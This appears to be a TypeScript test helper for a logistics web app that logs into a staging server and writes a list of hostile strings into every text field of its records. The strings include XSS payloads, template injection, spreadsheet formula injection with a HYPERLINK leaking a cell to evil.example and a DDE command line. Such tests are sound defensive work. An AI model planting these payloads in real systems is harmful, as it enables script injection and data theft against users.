/** Texts that are harmful where they are shown as anything but text, and a company that has them in every field. */
import type { BrowserStage } from '#tests/support/stage.ts';
import { STAGE_EMAIL, STAGE_PASSWORD } from '#tests/support/stage.ts';

export const TEXTS = [
  '<img data-malo src=x onerror="window.malo=1;alert(1)">',
  '"><script data-malo>window.malo=1</script>',
  "'--><svg data-malo onload=window.malo=1>",
  'javascript:window.malo=1//',
  "{{constructor.constructor('window.malo=1')()}}${window.malo=1}",
  '=HYPERLINK("http://evil.example/?"&A1;"x")',
  '+cmd|/C calc!A0',
  '@SUM(1+1)*cmd|x',
  '-1+2',
  '\u202Elatot\u202C מרחב',
  'W'.repeat(200),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚a̴͕̥͎̯̫l̸̢g̵̛o',
] as const;

/** The text fields of each module, from its contract. */
const FIELDS = {
  chofer: ['nombre'],
  camion: ['placa', 'marca'],
  cliente: ['nombre', 'giro', 'cel', 'razon_social'],
  bodega: ['nombre', 'direccion', 'comuna'],
  deposito: ['nombre', 'comuna', 'direccion'],
  puerto: ['nombre', 'comuna', 'direccion'],
  usuario: ['nombre'],
} as const;
const OF_MOVIMIENTO = ['terminal', 'sello', 'temperatura', 'ventilacion'];

/** Writes them into every text field of every record, through the API. @returns the number of fields */
export async function poisonTexts({ database, serverUrl }: BrowserStage): Promise<number> {
  let at = 0;
  let fields = 0;
  let token = '';
  const call = async (method: string, path: string, body: object): Promise<{ token: string }> => {
    const headers = {
      'content-type': 'application/json',
      ...(token && { authorization: `Bearer ${token}` }),
    };
    const response = await fetch(`${serverUrl}/api${path}`, { method, headers, body: JSON.stringify(body) });
    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
    return response.json();
  };
  ({ token } = await call('POST', '/auth/login', { email: STAGE_EMAIL, password: STAGE_PASSWORD }));
  const next = (names: readonly string[]): Record<string, string> => {
    fields += names.length;
    return Object.fromEntries(names.map((name) => [name, TEXTS[at++ % TEXTS.length]!]));
  };
  const rows = async (query: string) => (await database.pool.query<{ id: number }>(query)).rows;
  for (const [table, names] of Object.entries(FIELDS)) {
    for (const { id } of await rows(`select id from ${table} where deleted_at is null order by id`))
      await call('PATCH', `/${table}/${id}`, next(names));
  }
  for (const { id } of await rows('select id from cliente where deleted_at is null')) {
    const plantas = await rows(
      `select id from planta where cliente_id = ${id} and deleted_at is null order by id`,
    );
    await call('PATCH', `/cliente/${id}`, {
      plantas: plantas.map((planta) => ({ id: planta.id, ...next(['nombre', 'comuna', 'direccion']) })),
    });
  }
  const free = `select m.id from movimiento m join operacion o on o.id = m.operacion_id
    where m.deleted_at is null and o.deleted_at is null and m.tipo in ('Retiro en puerto', 'Entrega en puerto')
    and not exists (select from factura_item i left join extra e on e.id = i.extra_id
      where i.deleted_at is null and (i.operacion_id = o.id or e.operacion_id = o.id)) order by m.id`;
  for (const { id } of await rows(free))
    await call('PATCH', `/movimiento/${id}`, { datos: next(OF_MOVIMIENTO) });
  return fields;
}
